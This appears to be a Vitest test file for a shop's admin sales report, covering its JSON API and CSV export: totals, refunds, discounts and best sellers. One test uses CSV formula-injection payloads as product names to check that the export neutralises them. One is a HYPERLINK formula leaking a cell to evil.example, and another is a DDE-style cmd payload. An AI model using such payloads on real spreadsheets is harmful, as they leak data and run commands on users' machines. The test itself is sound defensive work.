import { describe, expect, it } from "vitest";
import { prisma } from "~/db.server";
import * as api from "~/routes/api.admin.sales-report";
import * as csvRoute from "~/routes/admin.timsar.sales-report_.csv";
import { createOrder } from "../factories/order";
import { uniqueYear } from "../factories/unique";
import { createProduct } from "../factories/product";
import { createCreditNote } from "../factories/credit-note";
import { adminCookie, request } from "../support/admin-requests";
import { runChecked } from "../support/openapi-conformance";

async function run(handler: unknown, req: Request) {
  return runChecked(handler, req, {}, { cspNonce: "" });
}

describe("GET /api/admin/sales-report and the CSV", () => {
  it("adds the discounts and the best sellers beside SPEC's fields, which keep their names", async () => {
    const { cookie } = await adminCookie();
    // a year no other test writes, so the range holds only these orders
    const year = await uniqueYear(prisma);
    const when = new Date(Date.UTC(year, 4, 5, 9));
    const bow = await createProduct(prisma, { nameEn: "Report bow", nameAr: "فيونكة التقرير" });
    const clip = await createProduct(prisma, { nameEn: "Report clip", nameAr: "مشبك التقرير" });
    const items = [
      { productId: bow.id, nameEn: bow.nameEn, nameAr: bow.nameAr, priceFils: 1250, quantity: 3 },
      { productId: clip.id, nameEn: clip.nameEn, nameAr: clip.nameAr, priceFils: 6000, quantity: 1 },
    ];
    const order = await createOrder(prisma, { createdAt: when, items, deliveryFeeFils: 1500, discountFils: 975, couponCode: "SPRING" });
    const range = `dateFrom=${year}-05-01&dateTo=${year}-05-31`;

    const response = await run(api.loader, request(`/api/admin/sales-report?${range}`, { cookie }));
    expect(response.status).toBe(200);
    const json = await response.json();
    expect(json).toEqual({
      dateFrom: `${year}-05-01`,
      dateTo: `${year}-05-31`,
      days: {
        [`${year}-05-05`]: {
          orders: [{ orderNumber: order.orderNumber, totalAmount: 10.275, discountAmount: 0.975, couponCode: "SPRING", productsTotal: 9.75, deliveryFee: 1.5, exchangeCredit: 0, giftWrapAmount: 0 }],
          productsTotal: 9.75,
          deliveryTotal: 1.5,
          giftWrapTotal: 0,
          totalAmount: 10.275,
          discountTotal: 0.975,
          exchangeCreditTotal: 0,
          refunds: [],
          refundsTotal: 0,
          netAmount: 10.275,
          returnsTotal: 0,
          returnCount: 0,
        },
      },
      rangeSummary: {
        productsTotal: 9.75,
        deliveryTotal: 1.5,
        giftWrapTotal: 0,
        totalAmount: 10.275,
        orderCount: 1,
        discountTotal: 0.975,
        exchangeCreditTotal: 0,
        refundsTotal: 0,
        refundCount: 0,
        netAmount: 10.275,
        returnsTotal: 0,
        returnCount: 0,
      },
      isFullMonth: true,
      recoveredOrders: 0,
      recoveredAmount: 0,
      bestSellers: {
        byUnits: [
          { productId: bow.id, nameEn: "Report bow", nameAr: "فيونكة التقرير", units: 3, revenue: 3.75 },
          { productId: clip.id, nameEn: "Report clip", nameAr: "مشبك التقرير", units: 1, revenue: 6 },
        ],
        byRevenue: [
          { productId: clip.id, nameEn: "Report clip", nameAr: "مشبك التقرير", units: 1, revenue: 6 },
          { productId: bow.id, nameEn: "Report bow", nameAr: "فيونكة التقرير", units: 3, revenue: 3.75 },
        ],
        byVariant: [],
      },
      // No campaign brought this order (CONTRACT.md "Where the shopper came from").
      bySource: [{ source: "(direct)", orders: 1, amount: 10.275 }],
    });

    const csv = await run(csvRoute.loader, request(`/admin/timsar/sales-report/csv?${range}`, { cookie }));
    expect(csv.headers.get("content-type")).toContain("text/csv");
    // With a BOM (Excel reads Arabic right only then; text() drops it), and the gifts' wrapping last, so older
    // columns keep their places.
    expect([...new Uint8Array(await csv.clone().arrayBuffer()).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = (await csv.text()).split("\r\n");
    expect(lines[0]).toBe("date,orderNumber,productsTotalKD,deliveryTotalKD,totalKD,discountKD,refundsKD,netKD,creditNoteNumber,returnsKD,returnNumber,exchangeCreditKD,giftWrapKD");
    expect(lines).toContain(`${year}-05-05,${order.orderNumber},9.750,1.500,10.275,0.975,0.000,10.275,,,,0.000,0.000`);
    expect(lines).toContain(`${year}-05-05,day total,9.750,1.500,10.275,0.975,0.000,10.275,,0.000,,0.000,0.000`);
    expect(lines).toContain(`byUnits,1,${bow.id},Report bow,فيونكة التقرير,3,3.750`);
    expect(lines).toContain(`byRevenue,1,${clip.id},Report clip,مشبك التقرير,1,6.000`);
  });

  it("shows a refund made ten days after the sale on its own day, in the JSON and the CSV", async () => {
    const { cookie } = await adminCookie();
    const year = await uniqueYear(prisma);
    const order = await createOrder(prisma, { subtotalFils: 10000, deliveryFeeFils: 1500, createdAt: new Date(Date.UTC(year, 2, 1, 9)) });
    const note = await createCreditNote(prisma, order, 2000, new Date(Date.UTC(year, 2, 11, 9)));

    const sale = await (await run(api.loader, request(`/api/admin/sales-report?dateFrom=${year}-03-01&dateTo=${year}-03-01`, { cookie }))).json();
    expect(sale.rangeSummary).toMatchObject({ totalAmount: 11.5, refundsTotal: 0, netAmount: 11.5 });
    const refund = await run(api.loader, request(`/api/admin/sales-report?dateFrom=${year}-03-11&dateTo=${year}-03-11`, { cookie }));
    expect(refund.status).toBe(200);
    expect((await refund.json()).days).toEqual({
      [`${year}-03-11`]: {
        orders: [],
        productsTotal: 0,
        deliveryTotal: 0,
        giftWrapTotal: 0,
        totalAmount: 0,
        discountTotal: 0,
        exchangeCreditTotal: 0,
        refunds: [{ creditNoteNumber: note.number, orderNumber: order.orderNumber, amount: 2, returnNumber: null }],
        refundsTotal: 2,
        netAmount: -2,
        returnsTotal: 0,
        returnCount: 0,
      },
    });

    const csv = await (await run(csvRoute.loader, request(`/admin/timsar/sales-report/csv?dateFrom=${year}-03-01&dateTo=${year}-03-31`, { cookie }))).text();
    expect(csv).toContain(`${year}-03-11,${order.orderNumber},,,,,2.000,-2.000,${note.number},,,,\r\n`);
    expect(csv).toContain(`${year}-03-01..${year}-03-31,range total,10.000,1.500,11.500,0.000,2.000,9.500,,0.000,,0.000,0.000\r\n`);
  });

  it("writes a product name that starts like a formula as text in the CSV, and Arabic names with commas as they are", async () => {
    const { cookie } = await adminCookie();
    const year = await uniqueYear(prisma);
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")';
    const named = [
      { nameEn: formula, nameAr: "مشبك، أحمر, كبير" },
      { nameEn: "@SUM(1+1)*cmd|' /C calc'!A0", nameAr: "+فيونكة" },
      { nameEn: "-2+3", nameAr: "\tطوق" },
    ];
    const items = [];
    for (const [index, names] of named.entries()) {
      const product = await createProduct(prisma, names);
      items.push({ productId: product.id, ...names, priceFils: 1000 * (index + 1), quantity: 1 });
    }
    const [formulaProduct, atProduct, minusProduct] = items;
    const order = await createOrder(prisma, { createdAt: new Date(Date.UTC(year, 6, 2, 9)), items, deliveryFeeFils: 0 });
    await createCreditNote(prisma, order, 2500, new Date(Date.UTC(year, 6, 3, 9)));
    const range = `dateFrom=${year}-07-01&dateTo=${year}-07-31`;

    const csv = await (await run(csvRoute.loader, request(`/admin/timsar/sales-report/csv?${range}`, { cookie }))).text();
    const lines = csv.split("\r\n");
    expect(lines).toContain(`byUnits,3,${formulaProduct.productId},"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Invoice"")","مشبك، أحمر, كبير",1,1.000`);
    expect(lines).toContain(`byUnits,2,${atProduct.productId},'@SUM(1+1)*cmd|' /C calc'!A0,'+فيونكة,1,2.000`);
    expect(lines).toContain(`byUnits,1,${minusProduct.productId},'-2+3,'\tطوق,1,3.000`);
    expect(lines.filter((line) => /(^|,)[=+@-]/.test(line.replace(/(^|,)-\d+\.\d{3}(?=,|$)/g, "$1")))).toEqual([]);
    // the shop's own amounts stay numbers: a refund's net is still -2.500, not text
    expect(csv).toContain(`${year}-07-03,${order.orderNumber},,,,,2.500,-2.500,`);

    // The JSON API is no spreadsheet: the names come back exactly as the staff member wrote them.
    const json = await (await run(api.loader, request(`/api/admin/sales-report?${range}`, { cookie }))).json();
    expect(json.bestSellers.byUnits.map((row: { nameEn: string; nameAr: string }) => [row.nameEn, row.nameAr])).toEqual(named.map((names) => [names.nameEn, names.nameAr]).reverse());
  });

  it("answers an empty range with empty best-seller lists and zero discounts", async () => {
    const { cookie } = await adminCookie();
    const year = await uniqueYear(prisma);
    const json = await (await run(api.loader, request(`/api/admin/sales-report?dateFrom=${year}-01-01&dateTo=${year}-01-02`, { cookie }))).json();
    expect(json.rangeSummary.discountTotal).toBe(0);
    expect(json.bestSellers).toEqual({ byUnits: [], byRevenue: [], byVariant: [] });
  });
});
